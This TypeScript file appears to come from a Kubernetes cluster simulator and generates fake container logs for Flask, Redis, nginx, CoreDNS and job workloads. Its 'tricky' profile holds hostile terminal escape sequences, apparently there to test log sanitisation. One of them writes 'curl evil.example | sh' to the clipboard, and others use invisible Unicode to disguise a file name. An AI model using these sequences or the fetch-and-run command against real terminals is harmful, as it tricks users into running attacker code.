// What each simulated container prints. A profile gives the lines written at start-up (and, for
// containers that exit, until their exit) plus a generator of steady-state lines; all randomness comes
// from a seeded source so a container's log is the same whenever it is read.
import { DATE_MARK, dateLine, type Script } from '../controllers/containerCommand.js';

export interface ProfileInput {
  pod: string;
  namespace: string;
  container: string;
  image: string;
  behavior: string;
  podIP: string;
  startedAt: number;
  /** For containers that exit by themselves: ms from start to exit. */
  runMs: number;
  rand: () => number;
  /** What the container's command prints (containerCommand.ts), when the kubelet can tell. */
  script?: Script;
}

export interface Profile {
  /** Lines at fixed offsets (ms) from the start. */
  startup: Array<[number, string]>;
  /** Steady state: ms until the next line and its text; undefined when the container prints nothing more. */
  next?: (t: number) => [number, string];
  /** Mean ms between steady-state lines (lets a reader skip ahead over long idle histories cheaply). */
  meanMs?: number;
  /** ms from the start to the first steady-state line (default: a second after the last start-up line). */
  firstMs?: number;
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
const ESC = '\u001b';
const BEL = '\u0007';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad = (n: number, w = 2) => String(n).padStart(w, '0');
const clf = (t: number) => {
  const d = new Date(t);
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
};
const redisTime = (t: number) => {
  const d = new Date(t);
  return `${pad(d.getUTCDate())} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${pad(d.getUTCMilliseconds(), 3)}`;
};
const klogTime = (t: number) => {
  const d = new Date(t);
  return `${pad(d.getUTCMonth() + 1)}${pad(d.getUTCDate())} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}.${pad(d.getUTCMilliseconds(), 3)}${pad(Math.floor(t % 1000), 3)}`;
};

export function profileFor(p: ProfileInput): Profile {
  const img = p.image.toLowerCase();
  if (p.pod.includes('tricky') || img.includes('tricky')) return tricky(p);
  if (p.script) return scripted(p, p.script);
  if (p.behavior === 'crashloop' || p.behavior === 'fail') return crasher(p);
  if (p.behavior === 'oomkill') return oom(p);
  if (p.behavior === 'complete') return job(p);
  if (img.includes('redis')) return redis(p);
  if (img.includes('nginx')) return nginx(p);
  if (img.includes('coredns')) return coredns(p);
  if (img.includes('metrics-server')) return metricsServer(p);
  if (img.includes('webnodb') || img.includes('flask') || img.includes('python')) return flask(p);
  return generic(p);
}

/** Exactly what the command prints, when it prints it; a `while true` loop's lines repeat each pass. */
function scripted(p: ProfileInput, s: Script): Profile {
  const text = (line: string, t: number) => line.split(DATE_MARK).join(dateLine(t));
  const startup = s.lines.map(([off, line]): [number, string] => [off, text(line, p.startedAt + off)]);
  const loop = s.loop;
  if (!loop || !loop.lines.length) return { startup };
  // Line j of a pass is printed j ms after its offset, so each line has its own instant and next() can
  // tell from the time alone which one it is (the hub may skip ahead over a long unread history).
  const at = loop.lines.map(([off], j) => off + j);
  const first = p.startedAt + loop.startMs;
  return {
    startup,
    firstMs: loop.startMs + at[0],
    meanMs: loop.periodMs / loop.lines.length,
    next: (t) => {
      const pass = Math.floor((t - first) / loop.periodMs);
      const within = t - first - pass * loop.periodMs;
      const j = Math.max(0, at.findIndex((x) => x >= within));
      const nextAt = j + 1 < at.length ? first + pass * loop.periodMs + at[j + 1] : first + (pass + 1) * loop.periodMs + at[0];
      return [nextAt - t, text(loop.lines[j][1], t)];
    },
  };
}

const PATHS = ['/', '/', '/api/items', '/api/items', '/api/items/42', '/api/health', '/static/app.js', '/static/style.css', '/login', '/api/search?q=kubernetes', '/favicon.ico', '/api/items/7'];
const CLIENTS = ['10.8.0.1', '10.8.1.1', '10.8.2.1', '10.128.0.9', '10.8.1.17'];

function flask(p: ProfileInput): Profile {
  const r = p.rand;
  return {
    startup: [
      [300, " * Serving Flask app 'app'"],
      [301, ' * Debug mode: off'],
      [320, `${ESC}[31m${ESC}[1mWARNING: This is a development server. Do not use it in a production deployment. Use a production WSGI server instead.${ESC}[0m`],
      [321, ' * Running on all addresses (0.0.0.0)'],
      [322, ' * Running on http://127.0.0.1:5000'],
      [323, ` * Running on http://${p.podIP}:5000`],
      [324, `${ESC}[33mPress CTRL+C to quit${ESC}[0m`],
    ],
    meanMs: 2500,
    next: (t) => {
      const path = pick(r, PATHS);
      const status = path === '/favicon.ico' ? 404 : r() < 0.04 ? 500 : r() < 0.05 ? 302 : 200;
      const method = path.startsWith('/api/items') && r() < 0.2 ? 'POST' : 'GET';
      const ms = Math.round(3 + r() * r() * 400);
      const line = r() < 0.15
        ? `INFO:app:${method} ${path} handled in ${ms}ms (db=${Math.round(ms * 0.6)}ms)`
        : `${pick(r, CLIENTS)} - - [${clf(t)}] "${method} ${path} HTTP/1.1" ${status} -`;
      return [200 + Math.floor(r() * 4600), line];
    },
  };
}

function redis(p: ProfileInput): Profile {
  const r = p.rand;
  const ts = (o: number) => redisTime(p.startedAt + o);
  let n = 0;
  return {
    startup: [
      [10, `1:C ${ts(10)} * oO0OoO0OoO0Oo Redis is starting oO0OoO0OoO0Oo`],
      [11, `1:C ${ts(11)} * Redis version=7.2.5, bits=64, commit=00000000, modified=0, pid=1, just started`],
      [12, `1:C ${ts(12)} # Warning: no config file specified, using the default config. In order to specify a config file use redis-server /path/to/redis.conf`],
      [14, `1:M ${ts(14)} * monotonic clock: POSIX clock_gettime`],
      [15, `1:M ${ts(15)} * Running mode=standalone, port=6379.`],
      [16, `1:M ${ts(16)} * Server initialized`],
      [17, `1:M ${ts(17)} * Ready to accept connections tcp`],
    ],
    meanMs: 20_000,
    next: (t) => {
      n++;
      const step = n % 4;
      const lines = [
        `1:M ${redisTime(t)} * ${1 + Math.floor(r() * 200)} changes in 60 seconds. Saving...`,
        `1:M ${redisTime(t)} * Background saving started by pid ${20 + n}`,
        `${20 + n}:C ${redisTime(t)} * DB saved on disk`,
        `1:M ${redisTime(t)} * Background saving terminated with success`,
      ];
      return [step === 0 ? 60_000 + Math.floor(r() * 20_000) : 5 + Math.floor(r() * 40), lines[step]];
    },
  };
}

function nginx(p: ProfileInput): Profile {
  const r = p.rand;
  return {
    startup: [
      [5, '/docker-entrypoint.sh: /docker-entrypoint.d/ is not empty, will attempt to perform configuration'],
      [6, '/docker-entrypoint.sh: Configuration complete; ready for start up'],
      [40, `${new Date(p.startedAt).toISOString().slice(0, 19).replace('T', ' ').replace(/-/g, '/')} [notice] 1#1: start worker processes`],
    ],
    meanMs: 3000,
    next: (t) => [500 + Math.floor(r() * 5000), `${pick(r, CLIENTS)} - - [${clf(t)} +0000] "GET ${pick(r, PATHS)} HTTP/1.1" ${r() < 0.05 ? 404 : 200} ${100 + Math.floor(r() * 5000)} "-" "kube-probe/1.30"`],
  };
}

function coredns(p: ProfileInput): Profile {
  const r = p.rand;
  return {
    startup: [
      [5, '.:53'],
      [6, '[INFO] plugin/reload: Running configuration SHA512 = 591cf328cccc12bc490481273e738df59329c62c0b729d94e8b61db9961c2fa5f046dd37f1cf888b953814040d180f52594972691cd6ff41be96639138a43908'],
      [7, 'CoreDNS-1.11.1'],
      [8, 'linux/amd64, go1.20.7, ae2bbc2'],
    ],
    meanMs: 30_000,
    next: () => [10_000 + Math.floor(r() * 40_000), `[INFO] ${pick(r, CLIENTS)}:${40000 + Math.floor(r() * 20000)} - ${Math.floor(r() * 65535)} "A IN ${pick(r, ['redis', 'webnodb', 'kubernetes'])}.${p.namespace === 'kube-system' ? 'vgauthier' : p.namespace}.svc.cluster.local. udp 48 false 512" NOERROR qr,aa,rd 94 0.000${100 + Math.floor(r() * 800)}s`],
  };
}

function metricsServer(p: ProfileInput): Profile {
  const r = p.rand;
  return {
    startup: [
      [20, `I${klogTime(p.startedAt + 20)}       1 serving.go:374] Generated self-signed cert (/tmp/apiserver.crt, /tmp/apiserver.key)`],
      [900, `I${klogTime(p.startedAt + 900)}       1 handler.go:275] Adding GroupVersion metrics.k8s.io v1beta1 to ResourceManager`],
      [1000, `I${klogTime(p.startedAt + 1000)}       1 secure_serving.go:213] Serving securely on [::]:10250`],
    ],
    meanMs: 60_000,
    next: (t) => [30_000 + Math.floor(r() * 60_000), `I${klogTime(t)}       1 server.go:191] "Failed probe" probe="metric-storage-ready" err="no metrics to serve"`],
  };
}

function crasher(p: ProfileInput): Profile {
  const end = Math.max(200, p.runMs - 50);
  return {
    startup: [
      [100, 'Starting worker (queue=jobs, concurrency=4)'],
      [Math.min(300, end - 40), 'Connecting to redis at redis:6379/0 ...'],
      [end - 30, 'Traceback (most recent call last):'],
      [end - 29, '  File "/app/worker.py", line 58, in <module>'],
      [end - 28, '    main()'],
      [end - 27, '  File "/app/worker.py", line 41, in main'],
      [end - 26, '    conn = connect(os.environ["QUEUE_URL"])'],
      [end - 25, '                   ~~~~~~~~~~^^^^^^^^^^^^^'],
      [end - 24, '  File "<frozen os>", line 714, in __getitem__'],
      [end - 20, "KeyError: 'QUEUE_URL'"],
    ],
  };
}

function oom(p: ProfileInput): Profile {
  const steps = 8;
  const startup: Array<[number, string]> = [[50, 'Loading dataset into memory...']];
  for (let i = 1; i <= steps; i++) startup.push([Math.floor((p.runMs * i) / (steps + 1)), `allocated chunk ${i} (${i * 64}MiB total)`]);
  return { startup };
}

function job(p: ProfileInput): Profile {
  const names = ['0001_initial', '0002_add_items_table', '0003_items_add_price', '0004_users', '0005_index_items_name'];
  const startup: Array<[number, string]> = [[100, 'Running migrations against postgres://db:5432/app ...']];
  names.forEach((n, i) => startup.push([Math.floor(((i + 1) * (p.runMs - 200)) / (names.length + 1)), `  Applying ${n}... OK`]));
  startup.push([Math.max(150, p.runMs - 100), `Migrations complete: ${names.length} applied in ${(p.runMs / 1000).toFixed(1)}s.`]);
  return { startup };
}

/** Hostile output: cursor moves, clear screen, window title and clipboard writes, mixed with plain colours. */
function tricky(p: ProfileInput): Profile {
  const r = p.rand;
  let n = 0;
  const lines = [
    () => `${ESC}[32mINFO${ESC}[0m request ok (${Math.floor(r() * 900)}ms)`,
    () => `${ESC}[2J${ESC}[Hscreen cleared by a log line`,
    () => `${ESC}]0;pwned${BEL}window title changed by a log line`,
    () => `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}clipboard write attempt`,
    () => `${ESC}[5A${ESC}[10Ccursor moved up five lines`,
    () => `${ESC}[31;1mERROR${ESC}[0m something ${ESC}[4munderlined${ESC}[24m happened`,
    () => `progress 42%\r${ESC}[Kprogress 100% (carriage return overwrite)`,
    () => `${ESC}[?1049hswitched to the alternate screen${ESC}[?1049l`,
    () => `bell${BEL}${BEL} and backspace\b\b\bover`,
    // Invisible characters that make text read as something else: a right-to-left override makes
    // "report\u202Efdp.exe" look like "reportexe.pdf"; zero-width ones hide inside words.
    () => 'saved report\u202Efdp.exe\u202C, zero\u200Bwidth\u200D, BOM\uFEFF, isolate \u2066x\u2069',
  ];
  return {
    startup: [[50, `${ESC}[1;36mtricky-logger${ESC}[0m starting (pid 1)`]],
    meanMs: 3000,
    next: () => [1000 + Math.floor(r() * 4000), lines[n++ % lines.length]()],
  };
}

function generic(p: ProfileInput): Profile {
  const r = p.rand;
  let n = 0;
  return {
    startup: [[100, `starting ${p.container} (${p.image})`], [400, `${p.container} listening`]],
    meanMs: 10_000,
    next: () => {
      n++;
      return [5000 + Math.floor(r() * 10_000), `level=info msg="heartbeat" seq=${n} goroutines=${8 + Math.floor(r() * 6)}`];
    },
  };
}
